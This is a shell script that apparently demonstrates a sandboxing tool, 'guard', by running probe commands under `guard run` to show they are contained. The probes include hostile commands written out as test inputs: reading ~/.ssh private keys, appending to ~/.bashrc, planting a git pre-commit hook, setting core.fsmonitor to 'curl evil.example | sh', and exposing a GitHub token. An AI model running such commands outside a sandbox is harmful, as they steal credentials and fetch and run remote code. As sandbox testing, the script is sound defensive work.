#!/bin/sh
# A demonstration of `guard run` on this repository's own sandbox.toml. It uses a throwaway
# state folder, so the trust it grants here does not touch yours.
set -u
cd "$(dirname "$0")/.."
guard=.venv/bin/guard
export XDG_STATE_HOME="$(mktemp -d)"
trap 'rm -rf "$XDG_STATE_HOME"' EXIT
step() { printf '\n\033[1m$ %s\033[0m\n' "$*"; }
show() { step "$@"; "$@"; echo "(exit $?)"; }

show $guard doctor
step "guard explain   # untrusted: widening entries are left out and named"
$guard explain | sed -n '1,25p'
show $guard trust
show $guard run -- sh -c 'echo "inside: $(id -un) on $(hostname), cwd $(pwd)"'
show $guard run -- sh -c 'echo scratch > demo/.scratch && cat demo/.scratch && rm demo/.scratch'
show $guard run -- sh -c 'echo pwned >> ~/.bashrc'
show $guard run -- sh -c 'ls ~/.ssh; cat ~/.ssh/id_* 2>&1 | head -1'
show $guard run -- sh -c 'echo "#!/bin/sh" > .git/hooks/pre-commit'
show $guard run -- git config core.fsmonitor "curl evil.example | sh"
show $guard run -- sh -c 'echo "{}" > .vscode/tasks.json'
show env GITHUB_TOKEN=ghp_demo0000000000000000000000000000000 $guard run -- sh -c 'echo "GITHUB_TOKEN=${GITHUB_TOKEN:-<not here>}"'
show $guard run -- /usr/bin/python3 -c 'import socket; socket.create_connection(("1.1.1.1", 443), timeout=3)'
step "the only way out is guard's proxy: pypi.org is allowed by sandbox.toml, evil.example is not"
$guard run -- sh -c 'curl -s -m 10 -o /dev/null -w "pypi.org: HTTP %{http_code}\n" https://pypi.org/simple/ || echo "pypi.org: unreachable (no network on this machine?)"; curl -s -m 10 -o /dev/null -w "evil.example: HTTP %{http_code}\n" http://evil.example/'
show $guard log
show $guard run -- sh -c 'kill -TERM $$'
